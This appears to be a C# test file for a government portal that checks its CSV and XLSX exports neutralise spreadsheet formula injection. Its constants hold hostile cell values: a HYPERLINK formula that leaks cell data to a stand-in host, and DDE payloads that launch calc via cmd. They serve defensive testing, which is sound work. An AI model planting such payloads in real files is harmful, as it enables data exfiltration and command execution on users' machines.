using System.Globalization;
using System.IO.Compression;
using System.Net;
using System.Text;
using AngleSharp.Dom;
using AngleSharp.Html.Dom;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MiniExcelLibs;
using Portal.Core.Data;
using Portal.Core.Data.Seeding;
using Portal.Core.Exchange;
using Portal.Testing;

namespace Portal.Web.Tests.Security;

/// <summary>
/// Every CSV and XLSX the portal writes, with hostile text planted where it comes from (an uploaded file's cells, names
/// an administrator types, a search), read the way a spreadsheet reads it: with a comma or, as Excel on a Vietnamese
/// Windows does, a semicolon as the separator. No cell may start with what a spreadsheet evaluates.
/// </summary>
public sealed class FormulaInjectionTests : IAsyncLifetime
{
    private const string Hyperlink = "=HYPERLINK(\"http://x.example/?d=\"&A1,\"Bấm vào đây\")";
    private const string Dde = "+cmd|' /C calc'!A0";
    private const string Sum = "@SUM(1+1)*cmd|' /C calc'!A0";
    private const string Split = "An;-2+3+cmd|' /C calc'!A0";
    private const string SplitWritten = "An;'-2+3+cmd|' /C calc'!A0";

    private PortalApp _app = null!;
    private FormClient _leader = null!;
    private FormClient _admin = null!;

    public async ValueTask InitializeAsync()
    {
        _app = await PortalApp.StartAsync(new Dictionary<string, string?>
        {
            ["Portal:SeedDemo"] = "true",
            ["Portal:DemoDossiers"] = "20",
            // No Hangfire server: the import job is run by the test itself.
            ["Portal:NodeRoles"] = "web",
        });
        // Names are typed by administrators (procedures, sectors, agencies); codes are checked on the way in, but an export
        // must not rely on that: every one of them is hostile here.
        await _app.WithDbAsync(async db =>
        {
            await db.Procedures.ExecuteUpdateAsync(s => s.SetProperty(p => p.Name, Hyperlink).SetProperty(p => p.Code, p => "-2+3+cmd|' /C calc'!A0-" + p.Code));
            await db.Sectors.ExecuteUpdateAsync(s => s.SetProperty(x => x.Name, Dde));
            await db.Agencies.ExecuteUpdateAsync(s => s.SetProperty(a => a.Name, Sum));
        });
        _leader = FormClient.For(_app);
        await _leader.SignInAsync("lanhdao@" + DemoSeeder.EmailDomain, DemoSeeder.Password);
        _admin = FormClient.For(_app);
        await _admin.SignInAsync("admin@" + DemoSeeder.EmailDomain, DemoSeeder.Password);
    }

    public async ValueTask DisposeAsync() => await _app.DisposeAsync();

    private static string Range()
    {
        var today = DateOnly.FromDateTime(DateTime.UtcNow);
        return string.Create(CultureInfo.InvariantCulture, $"ky=khoang&tu={today.AddYears(-9):yyyy-MM-dd}&den={today.AddDays(30):yyyy-MM-dd}");
    }

    private static async Task<string> CsvAsync(FormClient client, string url)
    {
        using var response = await client.Http.GetAsync(url);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.StartsWith("text/csv", response.Content.Headers.ContentType?.MediaType, StringComparison.Ordinal);
        return Encoding.UTF8.GetString(await response.Content.ReadAsByteArrayAsync()).TrimStart('\uFEFF');
    }

    [Fact]
    public async Task The_import_error_report_writes_the_uploaded_hostile_cells_as_text()
    {
        var row = ",31.DP.001,000.20.01.H31,2,9,2025-11-03T09:00:00+07:00,2025-11-05T17:00:00+07:00,2025-11-04T10:00:00+07:00,,0,0,1,1,1,5";
        var file = string.Join("\r\n", string.Join(',', ExchangeCsv.Columns), "\"" + Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"" + row,
            Dde + row, Sum + row, Split + row, "-5" + row) + "\r\n";
        var page = await _leader.GetAsync("/lanh-dao/nhap-du-lieu");
        var token = page.Document.QuerySelector<IHtmlInputElement>("form[enctype='multipart/form-data'] input[name='__RequestVerificationToken']")!.Value;
        using var content = new MultipartFormDataContent
        {
            { new StringContent(token), "__RequestVerificationToken" },
            { new ByteArrayContent(Encoding.UTF8.GetBytes(file)), "tep", "he-thong-cu.csv" },
        };
        using var upload = await _leader.Http.PostAsync("/lanh-dao/nhap-du-lieu", content);
        Assert.Equal(HttpStatusCode.Redirect, upload.StatusCode);
        var runUrl = upload.Headers.Location!.OriginalString;
        await using (var scope = _app.Services.CreateAsyncScope())
        {
            await scope.ServiceProvider.GetRequiredService<ImportDossiersJob>().RunAsync(Guid.Parse(runUrl.Split('/')[^1]), CancellationToken.None);
        }

        var report = await CsvAsync(_leader, runUrl + "/loi.csv");

        var codes = SpreadsheetView.Cells(report, ',').Skip(1).Select(r => r[1]).ToList();
        Assert.Equal(["'" + Hyperlink, "'" + Dde, "'" + Sum, SplitWritten, "'-5"], codes);
        SpreadsheetView.AssertNothingEvaluates(report);
    }

    [Fact]
    public async Task The_II06a_report_as_CSV_and_XLSX_writes_hostile_procedure_sector_and_agency_names_as_text()
    {
        var csv = await CsvAsync(_leader, "/lanh-dao/bao-cao-ii06a/csv?" + Range());
        Assert.Contains(SpreadsheetView.Cells(csv, ','), r => r[2] == "'" + Hyperlink);
        Assert.Contains(SpreadsheetView.Cells(csv, ','), r => r[2] == "'" + Dde);
        SpreadsheetView.AssertNothingEvaluates(csv);

        using var response = await _leader.Http.GetAsync("/lanh-dao/bao-cao-ii06a/xlsx?coquan=" + await AgencyXAsync() + "&" + Range());
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var xlsx = await response.Content.ReadAsByteArrayAsync();
        var cells = new List<object?>();
        foreach (var sheet in new[] { "II.06a", "Thông tin" })
        {
            using var stream = new MemoryStream(xlsx);
            cells.AddRange(stream.Query(useHeaderRow: false, sheetName: sheet).Cast<IDictionary<string, object?>>().SelectMany(r => r.Values));
        }

        Assert.Contains("'" + Hyperlink, cells);
        Assert.Contains("'" + Sum, cells);
        // The figures stay numbers.
        Assert.Contains(cells, c => c is double);
        Assert.All(cells.OfType<string>(), c => Assert.False(SpreadsheetView.Evaluates(c), c));
        using var zip = new ZipArchive(new MemoryStream(xlsx));
        foreach (var entry in zip.Entries.Where(e => e.FullName.StartsWith("xl/worksheets/", StringComparison.Ordinal)))
        {
            using var reader = new StreamReader(entry.Open());
            Assert.DoesNotContain("<f>", await reader.ReadToEndAsync(), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task The_dossier_export_writes_hostile_codes_as_text()
    {
        var csv = await CsvAsync(_leader, "/lanh-dao/ho-so/xuat.csv?" + Range());

        var rows = SpreadsheetView.Cells(csv, ',').Skip(1).ToList();
        Assert.NotEmpty(rows);
        Assert.All(rows, r => Assert.StartsWith("'-2+3+cmd|' /C calc'!A0-", r[1], StringComparison.Ordinal));
        SpreadsheetView.AssertNothingEvaluates(csv);
    }

    [Fact]
    public async Task The_audit_export_neutralises_a_search_that_a_semicolon_would_split_into_a_formula()
    {
        using (var search = await _admin.Http.GetAsync("/quan-tri/nhat-ky?q=" + Uri.EscapeDataString(Split)))
        {
            Assert.Equal(HttpStatusCode.OK, search.StatusCode);
        }

        var csv = await CsvAsync(_admin, "/quan-tri/nhat-ky/xuat.csv?loai=6");

        Assert.Contains(SpreadsheetView.Cells(csv, ','), r => r[^1] == "q=" + SplitWritten);
        SpreadsheetView.AssertNothingEvaluates(csv);
    }

    private Task<int> AgencyXAsync() =>
        _app.WithScopeAsync(sp => sp.GetRequiredService<PortalDb>().Agencies.Where(a => a.Code == SecurityFixture.AgencyX).Select(a => a.Id).SingleAsync());
}

/// <summary>A CSV file as a spreadsheet program cuts it into cells (RFC 4180 quotes, the given list separator).</summary>
public static class SpreadsheetView
{
    public static bool Evaluates(string cell) => cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r' or '\0';

    /// <summary>Read with a comma and with a semicolon as the separator, no cell starts a formula; some cells were read at all.</summary>
    public static void AssertNothingEvaluates(string csv)
    {
        foreach (var separator in new[] { ',', ';' })
        {
            var cells = Cells(csv, separator).SelectMany(r => r).ToList();
            Assert.NotEmpty(cells);
            Assert.All(cells, c => Assert.False(Evaluates(c), $"a cell read with '{separator}' starts a formula: {c}"));
        }
    }

    public static List<List<string>> Cells(string csv, char separator)
    {
        var rows = new List<List<string>>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < csv.Length; i++)
        {
            var c = csv[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
                {
                    cell.Append('"');
                    i++;
                }
                else if (c == '"')
                {
                    quoted = false;
                }
                else
                {
                    cell.Append(c);
                }
            }
            else if (c == '"' && cell.Length == 0)
            {
                quoted = true;
            }
            else if (c == separator)
            {
                row.Add(cell.ToString());
                cell.Clear();
            }
            else if (c is '\r' or '\n')
            {
                if (c == '\r' && i + 1 < csv.Length && csv[i + 1] == '\n')
                {
                    i++;
                }

                row.Add(cell.ToString());
                cell.Clear();
                rows.Add(row);
                row = [];
            }
            else
            {
                cell.Append(c);
            }
        }

        if (cell.Length > 0 || row.Count > 0)
        {
            row.Add(cell.ToString());
            rows.Add(row);
        }

        return rows;
    }
}
